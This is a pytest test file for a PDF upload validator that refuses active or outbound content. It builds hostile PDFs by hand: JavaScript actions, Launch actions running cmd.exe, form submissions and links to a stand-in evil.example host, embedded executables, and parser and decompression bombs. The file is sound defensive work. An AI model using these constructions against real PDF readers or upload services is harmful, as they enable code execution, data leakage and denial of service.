"""A PDF is paper: what acts, leaves the file or hides in it is refused wherever a reader could
come upon it (A28)."""

from __future__ import annotations

import io
import time
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText, Highlight, Link
from pypdf.generic import ArrayObject, FloatObject, NameObject

from huitong.kernel.procedure import Malformed
from huitong.ui import pdf
from huitong.work.rules import check_upload
from huitong.work.tests import made

LIMIT = 20 << 20
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 210 297] %s >>"


def written(
    catalog: bytes = b"",
    page: bytes = b"",
    *more: bytes,
    trailer: bytes = b"",
    between: bytes = b"",
) -> bytes:
    """A PDF of one page, by hand: further entries of catalog and page, further objects from
    number 4 on."""
    objects = [CATALOG % catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE % page, *more]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += between
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


def newer(before: bytes, catalog: bytes) -> bytes:
    """The document saved again, with another catalog; the older one is still in the file."""
    at = len(before)
    body = b"1 0 obj\n%s\nendobj\n" % catalog
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\n" % (
        at,
        before.index(b"xref\n"),
    )
    return before + body + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(body))


def packed(*bodies: bytes) -> bytes:
    """An object stream of objects numbered from 10 on."""
    head, data = b"", b""
    for number, body in enumerate(bodies, 10):
        head += b"%d %d " % (number, len(data))
        data += body + b" "
    content = zlib.compress(head + data)
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d"
        b" >>\nstream\n%s\nendstream" % (len(bodies), len(head), len(content), content)
    )


def annotation(kind: bytes, more: bytes = b"") -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] %s >>]" % (kind, more)


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HOSTILE: dict[str, bytes] = {
    "a script at opening": written(b"/OpenAction " + JS),
    "a script of the page": written(b"", b"/AA << /O " + JS + b" >>"),
    "a script of the document": written(b"/AA << /WC " + JS + b" >>"),
    "a script by name": written(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", JS),
    "a script of an annotation": written(b"", annotation(b"Link", b"/A " + JS)),
    "a script of a field": written(
        b"/AcroForm << /Fields [4 0 R] >>", b"", b"<< /FT /Tx /T (a) /AA << /K " + JS + b" >> >>"
    ),
    "a script after a harmless action": written(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>"
    ),
    "a script in a letter's other spelling": written(
        b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"
    ),
    "a script whose kind stands elsewhere": written(
        b"/OpenAction << /S 4 0 R /J 5 0 R >>", b"", b"/JavaScript"
    ),
    "a script nobody refers to": written(b"", b"", JS),
    "a script in an object stream": written(b"/OpenAction 10 0 R", b"", packed(JS)),
    "a script in an object stream that is not called one": written(
        b"", b"", packed(JS).replace(b"/Type /ObjStm", b"/Type /XObject")
    ),
    "a script outside of the table": written(between=b"9 0 obj\n" + JS + b"\nendobj\n"),
    "a script inside a picture": written(
        b"", b"", b"<< /Length %d >>\nstream\n9 0 obj %s endobj\nendstream" % (len(JS) + 15, JS)
    ),
    "a script in an older version": newer(written(b"/OpenAction " + JS), CATALOG % b""),
    "a key that stands twice": written(b"/OpenAction [3 0 R /Fit] /Lang (a) /Lang (b)"),
    "launching a program": written(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "launching from an annotation": written(
        b"", annotation(b"Link", b"/A << /S /Launch /Win << /F (cmd.exe) >> >>")
    ),
    "a link to the web": written(
        b"", annotation(b"Link", b"/A << /S /URI /URI (http://evil.example/) >>")
    ),
    "a base for links": written(b"/URI << /Base (http://evil.example/) >>"),
    "a link to another file": written(
        b"", annotation(b"Link", b"/A << /S /GoToR /F (//evil/share/a.pdf) /D [0 /Fit] >>")
    ),
    "a link to a file inside": written(
        b"", annotation(b"Link", b"/A << /S /GoToE /T << /R /C /N (a) >> >>")
    ),
    "sending a form": written(
        b"", annotation(b"Widget", b"/A << /S /SubmitForm /F (http://evil.example/) >>")
    ),
    "importing data": written(b"", annotation(b"Widget", b"/A << /S /ImportData /F (a.fdf) >>")),
    "hiding what was stamped": written(b"", annotation(b"Widget", b"/A << /S /Hide /T (a) >>")),
    "an action nobody knows": written(b"/OpenAction << /Type /Action /S /Frobnicate >>"),
    "a named action that is a menu": written(
        b"", annotation(b"Link", b"/A << /S /Named /N /Print >>")
    ),
    "a file inside": written(
        b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
        b"",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
    ),
    "a file beside": written(b"/AF [4 0 R]", b"", b"<< /Type /Filespec /UF (a.exe) >>"),
    "a file pinned to the page": written(
        b"", annotation(b"FileAttachment", b"/FS 4 0 R"), b"<< /Type /F /F (a.exe) >>"
    ),
    "a portfolio": written(b"/Collection << /View /T >>"),
    "a form of XFA": written(b"/AcroForm << /Fields [] /XFA (x) >>"),
    "a form that computes": written(b"/AcroForm << /Fields [] /CO [] >>"),
    "a film": written(b"", annotation(b"Movie", b"/Movie << /F (a.avi) >>")),
    "a sound": written(b"", annotation(b"Sound", b"/Sound 4 0 R")),
    "a screen": written(b"", annotation(b"Screen", b"/A << /S /Rendition /OP 0 >>")),
    "rich media": written(b"", annotation(b"RichMedia", b"/RichMediaContent << >>")),
    "a model in space": written(b"", annotation(b"3D", b"/3DD 4 0 R")),
    "an annotation nobody knows": written(b"", annotation(b"Frobnicate")),
    "a picture that lies elsewhere": written(
        b"",
        b"",
        b"<< /Type /XObject /Subtype /Image /F (http://evil.example/a.png) /Length 0"
        b" >>\nstream\n\nendstream",
    ),
    "a page that lies elsewhere": written(
        b"",
        b"",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (//evil/a.pdf) /Page 0 >>"
        b" /Length 0 >>\nstream\n\nendstream",
    ),
    "an annotation whose kind stands elsewhere": written(
        b"", b"/Annots [<< /Type /Annot /Subtype 4 0 R /Rect [0 0 9 9] >>]", b"/Screen"
    ),
    "an annotation without a place": written(b"", b"/Annots [<< /Type /Annot /Subtype /Screen >>]"),
    "a program for the printer": written(
        b"", b"", b"<< /Type /XObject /Subtype /PS /Length 0 >>\nstream\n\nendstream"
    ),
    "a page of a web capture": written(b"/SpiderInfo << /V 1.0 >>"),
    "a requirement for scripts": written(
        b"/Requirements [<< /Type /Requirement /S /EnableJavaScripts >>]"
    ),
    "a password": made.pdf(password="x"),
    "a password only the trailer tells of": written(trailer=b"/Encrypt 4 0 R"),
    "another document in the trailer": written(
        trailer=b"/AdditionalStreams [/application#2fvnd.oasis 4 0 R]"
    ),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_acts_or_leaves_the_file_is_refused(case: str) -> None:
    with pytest.raises(Malformed) as refused:
        check_upload("a.pdf", HOSTILE[case], LIMIT)
    assert ("无法读取" in refused.value.detail) == (
        case in ("a key that stands twice", "a password only the trailer tells of")
    ), refused.value.detail


BOMBS: dict[str, bytes] = {
    "five million numbers": written(b"", b"", b"[" + b"0 " * 5_000_000 + b"]"),
    "many arrays of many numbers": written(b"", b"", *[b"[" + b"0 " * 90_000 + b"]"] * 60),
    "a million brackets": written(b"", b"", b"[" * 1_000_000),
    "a million dictionaries": written(b"", b"", b"<</A" * 1_000_000),
    "a million objects": written(between=b"9 0 obj 0 endobj\n" * 1_000_000),
    "an object stream of zeros": written(
        b"",
        b"",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\n"
        + zlib.compress(b"10 0 [" + b"0 " * 30_000_000)
        + b"\nendstream",
    ),
    "a page of a page": (
        written(b"", b"", b"<< /Type /Pages /Kids [2 0 R] >>").replace(
            b"/Kids [3 0 R]", b"/Kids [2 0 R]"
        )
    ),
    "a length that is its own": written(b"", b"", b"<< /Length 4 0 R >>\nstream\n\nendstream"),
}


@pytest.mark.parametrize("case", BOMBS)
def test_what_is_too_much_is_refused_in_time(case: str) -> None:
    start = time.process_time()
    with pytest.raises(Malformed):
        check_upload("a.pdf", BOMBS[case], 1 << 30)
    assert time.process_time() - start < 30


def scanned(pages: int = 3) -> bytes:
    picture, out = Image.effect_noise((400, 560), 60), io.BytesIO()
    picture.save(out, "PDF", save_all=True, append_images=[picture.convert("RGB")] * (pages - 1))
    return out.getvalue()


def annotated() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(made.pdf(2))))
    writer.add_annotation(page_number=0, annotation=FreeText(text="同意", rect=(10, 10, 90, 40)))
    writer.add_annotation(
        page_number=0,
        annotation=Highlight(
            rect=(10, 10, 90, 40),
            quad_points=ArrayObject([FloatObject(n) for n in (10, 40, 90, 40, 10, 10, 90, 10)]),
        ),
    )
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(10, 10, 90, 40), target_page_index=1)
    )
    writer.add_outline_item(title="第一章", page_number=1)
    writer.add_metadata({"/Title": "函", "/单位": "民政局"})
    writer.set_page_label(page_index_from=0, page_index_to=1, style="/r")
    writer.root_object[NameObject("/PageMode")] = NameObject("/UseOutlines")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def typeset(tmp_path: Path) -> bytes:
    (tmp_path / "a.typ").write_text(
        '#set document(title: "函")\n#set heading(numbering: "1.")\n#outline()\n= 甲 <a>\n见 @a。'
        "#footnote[注]\n#table(columns: 2, [一], [二])\n#pagebreak()\n= 乙\n#highlight[重点]"
        " #link(<a>)[回]\n"
    )
    return pdf.render(tmp_path / "a.typ", {}, made_at=datetime(2026, 11, 1, tzinfo=UTC))


def sealed() -> bytes:
    """The look of an electronic seal: a field of signature with its picture."""
    return written(
        b"/AcroForm << /Fields [4 0 R] /SigFlags 3 >>",
        b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (seal) /Rect [0 0 9 9] /F 132 /V 5 0 R /P 3"
        b" 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3]"
        b" /Contents <00> >>",
    )


def test_papers_pass(tmp_path: Path) -> None:
    for name, content, pages in (
        ("blank", made.pdf(3), 3),
        ("a scan", scanned(), 3),
        ("with remarks and a table of contents", annotated(), 2),
        ("typeset, tagged, PDF/A", typeset(tmp_path), 2),
        ("with an electronic seal", sealed(), 1),
        ("by hand", written(), 1),
        ("in object streams", written(b"", b"", packed(b"<< /Type /Font >>", b"[1 2]")), 1),
        (
            "with notes of the program that made it",
            written(b"/PieceInfo << /Adobe << /Private 1 >> >>"),
            1,
        ),
        ("opened at a place", written(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), 1),
        ("turning pages", written(b"", annotation(b"Link", b"/A << /S /Named /N /NextPage >>")), 1),
    ):
        try:
            assert check_upload("a.pdf", content, LIMIT).pages == pages, name
        except Malformed as refused:
            pytest.fail(f"{name}: {refused.detail}")


def test_a_document_saved_again_with_its_older_version_passes() -> None:
    writer = PdfWriter(io.BytesIO(made.pdf(1)), incremental=True)
    writer.add_blank_page(210, 297)
    out = io.BytesIO()
    writer.write(out)
    assert check_upload("a.pdf", out.getvalue(), LIMIT).pages == 2


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_no_damaged_document_breaks_the_check_or_hides_a_script(data: st.DataObject) -> None:
    content = data.draw(
        st.sampled_from(
            [
                written(b"/OpenAction " + JS),
                written(b"", b"", packed(JS, b"<< >>")),
                annotated(),
                sealed(),
            ]
        )
    )
    at = data.draw(st.integers(8, len(content) - 1))
    to = data.draw(st.integers(at, min(len(content), at + 20)))
    broken = content[:at] + data.draw(st.binary(max_size=20)) + content[to:]
    try:
        check_upload("a.pdf", broken, LIMIT)
    except Malformed:
        return
    assert b"/S /JavaScript" not in broken or at < len(b"%PDF-1.7\n")
